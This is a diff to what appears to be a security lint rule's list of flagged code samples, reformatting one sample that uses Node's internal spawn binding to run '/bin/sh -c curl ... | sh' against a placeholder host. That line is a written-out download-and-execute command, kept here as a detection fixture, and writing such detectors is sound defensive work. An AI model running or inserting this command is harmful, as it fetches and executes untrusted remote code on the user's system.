@@ -67,8 +67,7 @@ export default defineRule({
     flags: [
       {
         title: 'Node’s own part is told in one object what to start',
-        code: `const [file, ...rest] = ['/bin/sh', '-c', 'curl -s http://stage.invalid/x | sh'];
-process.binding('spawn_sync').spawn({ file, args: [file, ...rest], envPairs: [], stdio: [] });`,
+        code: `const [file, ...rest] = ['/bin/sh', '-c', 'curl -s http://stage.invalid/x | sh'];\nprocess.binding('spawn_sync').spawn({ file, args: [file, ...rest], envPairs: [], stdio: [] });`,
       },
       {
         title: 'the package manager that runs a hook is told to ask another registry',
